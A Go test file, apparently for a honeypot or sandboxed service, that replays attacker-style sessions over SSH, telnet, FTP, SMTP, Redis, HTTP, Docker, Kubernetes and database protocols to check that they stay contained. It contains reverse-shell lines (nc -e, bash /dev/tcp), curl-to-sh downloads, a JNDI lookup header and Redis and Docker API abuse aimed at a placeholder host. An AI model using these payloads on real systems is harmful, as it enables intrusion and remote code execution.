//go:build linux

package main

import (
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/crypto/ssh"
)

// fetches are commands that lead elsewhere.
const fetches = "wget http://" + elsewhere + "/a; curl -o b http://" + elsewhere + "/b | sh; tftp -g -r c " + elsewhere + "; ftpget " + elsewhere + " d d; " +
	"nc " + elsewhere + " 4444 -e /bin/sh; bash -i >& /dev/tcp/" + elsewhere + "/4444 0>&1; ssh root@" + elsewhere + "; scp x root@" + elsewhere + ":y; " +
	"ping -c 1 " + elsewhere + "; nslookup victim.example; wget http://victim.example/e; apt-get update; git clone http://" + elsewhere + "/f"

// all are the temptations of every service.
func (a *temptation) all() map[string]func(t *testing.T) {
	const first, second, third = "127.77.0.1", "127.77.0.2", "127.77.0.3"
	talk := func(address string, steps ...string) func(t *testing.T) {
		return func(t *testing.T) {
			t.Helper()
			a.talk(t, address, steps...)
		}
	}
	ask := func(address, text string, answered bool) func(t *testing.T) {
		return func(t *testing.T) {
			t.Helper()
			a.ask(t, address, text, answered)
		}
	}
	mail := []string{
		"220", "EHLO mail.victim.example\r\n", "250 ", "MAIL FROM:<a@victim.example>\r\n", "250", "RCPT TO:<b@[" + elsewhere + "]>\r\n", "",
		"DATA\r\n", "", "Subject: hi\r\n\r\nhttp://" + elsewhere + "/\r\n.\r\n", "", "QUIT\r\n", "",
	}
	return map[string]func(t *testing.T){
		"ssh":    func(t *testing.T) { t.Helper(); a.ssh(t, first+":22") },
		"telnet": talk(first+":23", "login: ", "root\r\n", "Password: ", "hunter2\r\n", "# ", fetches+"\r\n", "# ", "exit\r\n"),
		"ftp": talk(first+":21", "220", "USER anonymous\r\n", "331", "PASS a@victim.example\r\n", "230", "PORT 198,51,100,7,0,80\r\n", "", "LIST\r\n", "",
			"EPRT |1|"+elsewhere+"|80|\r\n", "", "RETR /pub/README\r\n", "", "SITE CPFR http://"+elsewhere+"/\r\n", "", "QUIT\r\n", "221"),
		"smtp relay": talk(first+":25", mail...),
		"smtp":       talk(third+":25", mail...),
		"pop3":       talk(first+":110", "+OK", "USER a@"+elsewhere+"\r\n", "+OK", "PASS x\r\n", "-ERR", "QUIT\r\n", ""),
		"imap":       talk(first+":143", "* OK", "a LOGIN u@"+elsewhere+" x\r\n", "a NO", "b LOGOUT\r\n", ""),
		"redis": talk(first+":6379", "", "SLAVEOF "+elsewhere+" 6379\r\n", "\r\n", "REPLICAOF "+elsewhere+" 6379\r\n", "\r\n",
			"MODULE LOAD /tmp/exp.so\r\n", "\r\n", "MIGRATE "+elsewhere+" 6379 k 0 5000\r\n", "\r\n", "CONFIG SET dir /root/.ssh\r\n", "\r\n", "QUIT\r\n", ""),
		"http":  func(t *testing.T) { t.Helper(); a.http(t, first+":80", first+":2375", first+":9200") },
		"https": func(t *testing.T) { t.Helper(); a.https(t, second+":443", "GET /?u=http://"+elsewhere+"/") },
		"k8s": func(t *testing.T) {
			t.Helper()
			a.https(t, second+":6443", "GET /api/v1/namespaces/default/services/http:"+elsewhere+":80/proxy/")
		},
		"databases": func(t *testing.T) { t.Helper(); a.databases(t, first) },
		"ldap":      talk(first+":389", "", "\x30\x28\x02\x01\x01\x60\x23\x02\x01\x03\x04\x19cn=ldap://"+elsewhere+"/ab"+"\x80\x03pwd", "\x30"),
		"sip":       talk(first+":5060", "", invite("TCP"), "SIP/2.0"),
		"sip, udp":  ask(first+":5060", invite("UDP"), true),
		"tftp":      ask(first+":69", "\x00\x01http://"+elsewhere+"/a\x00octet\x00", true),
		"snmp":      ask(first+":161", "\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x01\x01\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00", true),
		"llmnr":     ask(first+":5355", "\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06victim\x07example\x00\x00\x01\x00\x01", false),
		"modbus":    talk(second+":502", "", "\x00\x01\x00\x00\x00\x05\x01\x2b\x0e\x01\x00", "\x00"),
		"memcached": talk(third+":11211", "", "set http://"+elsewhere+"/a 0 0 1\r\nx\r\n", "\r\n", "quit\r\n", ""),
		"catchall":  talk(third+":8888", "", "CONNECT "+elsewhere+":443 HTTP/1.1\r\n\r\n", ""),
		"mqtt":      talk(third+":1883", "", "\x10\x1a\x00\x04MQTT\x04\x02\x00\x3c\x00\x0e-"+elsewhere+"-", "\x20"),
		"vnc":       talk(first+":5900", "RFB", "RFB 003.008\n", ""),
		"rdp":       talk(first+":3389", "", "\x03\x00\x00\x2c\x27\xe0\x00\x00\x00\x00\x00Cookie: mstshash=victim\r\n\x01\x00\x08\x00\x03\x00\x00\x00", "\x03"),
	}
}

// ssh logs in, runs commands and asks for tunnels.
func (a *temptation) ssh(t *testing.T, address string) {
	t.Helper()
	conn := a.dial(t, "tcp", address)
	c, channels, requests, err := ssh.NewClientConn(conn, address, &ssh.ClientConfig{
		User: "root", Auth: []ssh.AuthMethod{ssh.Password("hunter2")}, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
	})
	require.NoError(t, err)
	client := ssh.NewClient(c, channels, requests)
	defer client.Close() //nolint:errcheck // the visit is over
	for command := range strings.SplitSeq(fetches, "; ") {
		s, err := client.NewSession()
		require.NoError(t, err)
		_, _ = s.CombinedOutput(command) // what it says is the shell's test
	}
	tunnel, err := client.DialContext(t.Context(), "tcp", elsewhere+":80")
	require.NoError(t, err)
	_, err = io.WriteString(tunnel, "GET / HTTP/1.0\r\n\r\n")
	require.NoError(t, err)
	require.NoError(t, tunnel.Close())
	listener, err := client.Listen("tcp", "0.0.0.0:4444")
	require.NoError(t, err)
	require.NoError(t, listener.Close())
}

// request is one that mentions elsewhere wherever it can.
func request(host, line, body string) string {
	return fmt.Sprintf("%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: ${jndi:ldap://%s/a}\r\nX-Forwarded-For: %s\r\n"+
		"Content-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", line, host, elsewhere, elsewhere, len(body), body)
}

// http asks web servers to be proxies, and to fetch by their own interfaces.
func (a *temptation) http(t *testing.T, web, docker, elastic string) {
	t.Helper()
	for _, r := range []struct{ address, host, line, body string }{
		{web, elsewhere, "GET http://" + elsewhere + "/", ""},
		{web, elsewhere + ":443", "CONNECT " + elsewhere + ":443", ""},
		{web, web, "GET /xmlrpc.php?url=http://" + elsewhere + "/", ""},
		{docker, docker, "POST /v1.41/images/create?fromImage=" + elsewhere + "/evil&tag=latest", ""},
		{docker, docker, "POST /v1.41/build?remote=http://" + elsewhere + "/Dockerfile", ""},
		{docker, docker, "POST /v1.41/containers/create", `{"Image":"alpine","Cmd":["sh","-c","wget http://` + elsewhere + `/a"]}`},
		{elastic, elastic, "PUT /_snapshot/x", `{"type":"url","settings":{"url":"http://` + elsewhere + `/"}}`},
		{elastic, elastic, "POST /_reindex", `{"source":{"remote":{"host":"http://` + elsewhere + `:9200"},"index":"a"},"dest":{"index":"b"}}`},
	} {
		a.talk(t, r.address, "", request(r.host, r.line, r.body), "HTTP/1.1 ")
	}
}

// https asks one thing over TLS.
func (a *temptation) https(t *testing.T, address, line string) {
	t.Helper()
	c := tls.Client(a.dial(t, "tcp", address), &tls.Config{InsecureSkipVerify: true, ServerName: "victim.example"})
	defer c.Close() //nolint:errcheck // the visit is over
	_, err := io.WriteString(c, request(address, line, ""))
	require.NoError(t, err)
	answer, err := io.ReadAll(io.LimitReader(c, 9))
	require.NoError(t, err)
	require.Equal(t, "HTTP/1.1 ", string(answer))
}

// databases are told names and statements that lead elsewhere.
func (a *temptation) databases(t *testing.T, host string) {
	t.Helper()
	name := "u@" + elsewhere
	login := binary.LittleEndian.AppendUint32(nil, 1<<9|1<<15|1<<19)
	login = append(login, make([]byte, 28)...)
	login = append(login, name+"\x00\x00mysql_native_password\x00"...)
	a.talk(t, host+":3306", "_password", string([]byte{byte(len(login)), 0, 0, 1})+string(login), "denied")
	startup := "\x00\x03\x00\x00user\x00" + name + "\x00\x00"
	a.talk(t, host+":5432", "", string(binary.BigEndian.AppendUint32(nil, uint32(len(startup)+4)))+startup, "R",
		"p\x00\x00\x00\x08pwd\x00", "E")
}

func invite(over string) string {
	return "INVITE sip:900@" + elsewhere + " SIP/2.0\r\nVia: SIP/2.0/" + over + " " + elsewhere + ":5060;branch=z9hG4bKa\r\nFrom: <sip:a@" + elsewhere + ">;tag=1\r\n" +
		"To: <sip:900@" + elsewhere + ">\r\nCall-ID: 1\r\nCSeq: 1 INVITE\r\nContact: <sip:a@" + elsewhere + ":5060>\r\nContent-Length: 0\r\n\r\n"
}
